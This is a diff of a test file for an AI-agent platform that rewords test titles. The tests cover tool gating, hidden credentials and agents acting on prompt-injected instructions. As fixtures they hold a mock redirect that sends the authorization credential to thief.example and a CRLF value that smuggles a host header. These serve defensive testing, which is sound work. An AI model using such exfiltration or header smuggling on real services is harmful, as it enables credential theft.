@@ -104,7 +104,7 @@ beforeEach(() => {
   answer = (_, response) => response.end('{"orders":["tea"]}')
 })
 
-it('an agent has none of the platform’s tools unless its config says so', async () => {
+it('an agent has none of the platform’s tools unless its config enables them', async () => {
   await turn()
   expect(tools()).toEqual([])
   const { status } = await web(`/api/agents/${agentId}/config`, { config: { mcp: true } }, 'PUT')
@@ -123,7 +123,7 @@ it('an agent has none of the platform’s tools unless its config says so', asyn
   ])
 })
 
-it('an agent asks a service by a credential that it cannot read, and keeps a note of the answer', async () => {
+it('an agent calls a service with a credential that it cannot read, and stores a note of the response', async () => {
   const results = await turn(
     [{ name: 'list_services', given: {} }],
     [ask({ path: '/orders?of=ann', headers: { 'x-trace': '1' } })],
@@ -151,14 +151,14 @@ it('an agent asks a service by a credential that it cannot read, and keeps a not
   expect(JSON.stringify(model.calls)).not.toContain(value)
 })
 
-it('an agent reads a page, also where pages are sold', async () => {
+it('an agent reads a page, also if pages have a price', async () => {
   const url = site.origin
   expect((await call(`${stack.now().summarizer}/api/read`, { body: { url } })).status).toBe(402)
   const [said] = await turn([{ name: 'read_page', given: { url } }])
   expect(said).toMatchObject({ result: { title: 'Tides', markdown: 'The moon pulls at the sea.' } })
 })
 
-it('a stop of a turn closes the connection to its model', async () => {
+it('stopping a turn closes the connection to its model', async () => {
   const [began, closed] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()]
   const { reply } = model
   model.reply = (response) => {
@@ -182,7 +182,7 @@ it('a stop of a turn closes the connection to its model', async () => {
   }
 })
 
-it('a service that is asked to do something is told it as it was said', async () => {
+it('a service receives the agent’s request unchanged', async () => {
   const bodies: string[] = []
   answer = (request, response) => {
     request.on('data', (part: Buffer) => bodies.push(String(part)))
@@ -194,8 +194,8 @@ it('a service that is asked to do something is told it as it was said', async ()
   expect(seen[0]?.headers['content-type']).toBe('application/json')
 })
 
-describe('an agent that does what a stranger wrote', () => {
-  it('does not get the credential said back: not by an echo, in a header or by a redirect', async () => {
+describe('an agent with a prompt injection', () => {
+  it('does not get the credential back: not by an echo, in a header or by a redirect', async () => {
     answer = ({ headers, url }, response) => {
       const given = String(headers.authorization)
       response.writeHead(302, { location: `https://thief.example/?${given}`, link: given })
@@ -225,13 +225,13 @@ describe('an agent that does what a stranger wrote', () => {
     ['a key of its own', { headers: { Authorization: 'Bearer x' } }, /not for you/],
     ['another host’s name', { headers: { host: 'thief.example' } }, /not for you/],
     ['a second header', { headers: { 'x-a': '1\r\nhost: thief.example' } }, /one line/],
-  ])('reaches nothing by %s', async (_, given, words) => {
+  ])('reaches no host by %s', async (_, given, words) => {
     const [said] = await turn([ask(given)])
     expect(JSON.stringify(said)).toMatch(words)
     expect(seen).toEqual([])
   })
 
-  it('gets no more of an answer than a model reads, and nothing that is no text', async () => {
+  it('gets at most the response size of a model, and only text', async () => {
     answer = (_, response) => response.end('é'.repeat(200_000))
     const [long] = await turn([ask({})])
     expect(JSON.stringify(long).length).toBeLessThan(14_000)
@@ -239,7 +239,7 @@ describe('an agent that does what a stranger wrote', () => {
     expect(await turn([ask({})])).toMatchObject([{ result: { body: null } }])
   })
 
-  it('has the tools no longer once its owner switches them off', async () => {
+  it('loses the tools once its owner disables them', async () => {
     const path = `/api/agents/${agentId}/config?apply=false`
     await web(path, { config: { mcp: null } }, 'PUT')
     expect(await turn([ask({})])).toEqual([{ error: expect.stringContaining('403') }])
